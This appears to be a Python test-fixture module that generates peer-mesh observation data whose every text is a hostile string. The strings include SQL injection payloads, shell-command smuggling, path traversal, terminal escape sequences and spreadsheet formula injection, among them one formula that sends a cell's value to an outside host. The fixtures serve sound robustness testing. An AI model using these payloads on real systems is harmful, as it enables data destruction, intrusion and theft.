"""Strings that attack whatever prints, stores or parses them, and a mesh in which every text is one of them."""

from __future__ import annotations

import re
from itertools import cycle, islice
from typing import Any

SQL = (
    "'",
    '"',
    "`",
    "''",
    "\\'",
    "' OR '1'='1",
    "' OR 1=1 --",
    '" OR ""="',
    "') OR ('1'='1",
    "'; DROP TABLE peer; --",
    "'; DROP TABLE document; --",
    "x'; DELETE FROM observation_log WHERE 't'='t",
    "1; UPDATE store_info SET value='owned'",
    "1 UNION SELECT 1,2,3,4 --",
    "' UNION SELECT sql FROM sqlite_master --",
    "' UNION ALL SELECT usename, passwd FROM pg_shadow --",
    "'; ATTACH DATABASE 'owned.db' AS owned; --",
    "'; PRAGMA journal_mode=DELETE; --",
    "'; VACUUM INTO 'owned.db'; --",
    "' AND 1=load_extension('x') --",
    "'; COPY (SELECT 1) TO '/tmp/owned'; --",
    "'; SELECT pg_sleep(9); --",
    "$$; DROP TABLE peer; $$",
    "$1",
    "?",
    "?1",
    ":name",
    "%s",
    "%(name)s",
    "%%",
    "%",
    "_",
    "a%_b",
    "*",
    "a*?[b-",
    "/*",
    "*/ OR 1 /*",
    "--",
    "#",
    ";",
    "\\",
    "\\x00",
    "\\0",
    "{0}",
    "{name!r}",
    "${PATH}",
    "$(touch owned)",
    "`touch owned`",
    "; touch owned",
    "| touch owned",
    "0x27204f522031",
    "CHAR(39)",
    "NULL",
    "null",
    "true",
    "1e9",
    "/peer_metadata/role'",
    "/~",
    "~2",
    "ORDER BY 1--",
)
"""What people call SQL injection, and the wildcards, placeholders and quotes of neighbouring languages."""

TERMINAL = (
    "\x1b]0;owned\x07",
    "\x1b[2J\x1b[H",
    "\x1b[31mred",
    "\x1b]8;;http://example.org\x1b\\link",
    "\x1bP+q544e\x1b\\",
    "\x9b2J",
    "\x9d0;owned\x9c",
    "a\bb",
    "a\rb",
    "a\nb",
    "a\tb",
    "a\x0bb\x0cc",
    "\x07",
    "\x7f",
    "\x85next",
    "\u2028line",
    "\u2029paragraph",
    "\u202egnp.exe",
    "\u2066isolate\u2069",
    "\u061c\u200e\u200f",
    "zero\u200bwidth\u2060\ufeff",
    "soft\u00adhyphen",
    "e" + "\u0301" * 300,
    "[/foo]",
    "[bold red]x[/bold red]",
    "[link=http://example.org]x[/link]",
    "<b>&amp;",
    "厨房のディスプレイ🍕",
)
"""What steers a terminal, reorders what it shows, or is markup to one that knows some."""

CONTROL_PICTURES = ("a\0b", "\0", "\ud800", "x\udfff", "\ud83d", "\\u0000", "\\ud800")
"""NUL and lone surrogates, which values may hold and identities may not, and what only looks like them."""

FORMULAS = (
    '=HYPERLINK("http://example.org/?"&A1,"till")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\u00a0=1",
    "\ufeff=1",
    "\u200b=1",
    "\0=1",
    "\uff1d1",
    "\uff0b1",
    "\uff0d1",
    "\uff201",
    "'=1",
    ";=1",
    ',=1,"=1',
)
"""What a spreadsheet runs, or may run once it has dropped what stands before."""

NAMES = (
    "",
    " ",
    ".",
    "..",
    "../../x",
    "/etc/passwd",
    "..\\..\\x",
    "-rf",
    "--help",
    "--db=owned.db",
    "-",
    "CON",
    "nul.txt",
    "COM1",
    "a:b",
    "~root",
    "x" * 5000,
    "\U0001f3f4" * 300,
    "]]>",
    "<!--",
    "<![CDATA[",
    "\ufffe\uffff",
    "&#0;",
    "anonymous",
    "till-1'",
)
"""What is something else to a shell, a file system or XML, and what is very long."""

TEXTS = (*SQL, *TERMINAL, *FORMULAS, *NAMES, *CONTROL_PICTURES)
"""All of them, as a device name or a value in metadata may hold them."""

_NOT_IN_IDENTITIES = re.compile("[\0\ud800-\udfff]")


def as_identity(text: str, number: int, limit: int = 500) -> str:
    """The string as a key, an id or a type may hold it: no NUL, no lone surrogate, not too long, unlike the others."""
    plain = _NOT_IN_IDENTITIES.sub("", text).encode()[:limit].decode(errors="ignore")
    return plain or f"none {number}"


KEYS = tuple(dict.fromkeys(as_identity(text, number) for number, text in enumerate(TEXTS)))
"""Those of them that a peer key can be."""

UNSAFE = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069\ud800-\udfff]"
)
"""What must not reach a terminal: every control character but the newline, and what reorders text."""


def mesh(second: int, keys: tuple[str, ...], shift: int = 0) -> dict[str, Any]:
    """A graph of the peers with these keys, the first of which is the observer; every other text in it is hostile.

    ``shift`` turns the strings about, so that two graphs of the same peers tell other things of them.
    """
    texts = list(islice(cycle(TEXTS), shift, shift + len(keys)))
    types = [as_identity(text, number, 120) for number, text in enumerate(texts)]
    links = [
        {
            "id": as_identity(f"{text}{number}", number, 2000),
            "peer1": keys[0],
            "peer2": key,
            "connectionType": kind if number % 3 else "Bluetooth",
            text[:40] or "x": text,
        }
        for number, (key, text, kind) in enumerate(zip(keys, texts, types, strict=True))
        if number and (number + second) % 4
    ]
    peers = [
        {
            "peerKeyString": key,
            "deviceName": text,
            "os": text if number % 2 else "Linux",
            "dittoSdkVersion": text if number % 3 else "5.1.0",
            "isConnectedToDittoServer": (number + shift) % 5 == 0,
            "isCompatible": (number + shift) % 7 != 0,
            "peerMetadata": {text: text, "role": text, "nested": {text: [text, {text: number}]}},
            "identityServiceMetadata": {text: text},
            f"future {text}": text,
            "connections": links if number == 0 else [link for link in links if link["peer2"] == key],
        }
        for number, (key, text) in enumerate(zip(keys, texts, strict=True))
    ]
    return {"localPeer": peers[0], "remotePeers": peers[1:], "=future": texts[0]}


def observations() -> list[dict[str, Any]]:
    """Some minutes of three observers with hostile keys, who see hostile peers come, go, change and disagree."""
    first, second, third = "'; DROP TABLE peer; --", "\x1b[2J\x1b[H", "=cmd|' /C calc'!A0"
    others = tuple(key for key in KEYS if key not in (first, second, third))
    told = [
        (0, first, others, 0),
        (1, second, others[::4], 0),
        (2, third, others[:20], 0),
        (10, first, others[5:], 5),
        (12, second, others[::4], 1),
        (20, first, others, 7),
        (40, first, others[:60], 7),
    ]
    graphs = [
        {
            "observedAt": f"2026-07-08T18:00:{at:02}Z",
            "observer": observer,
            "maxSilenceSeconds": 45,
            "graph": mesh(at, (observer, *seen), shift),
        }
        for at, observer, seen, shift in told
    ]
    stop = {"observedAt": "2026-07-08T18:00:59Z", "observer": third, "graph": None}
    contradiction = {**graphs[0], "graph": mesh(3, (first, *others[:3]), 4)}
    return [*graphs, stop, contradiction]
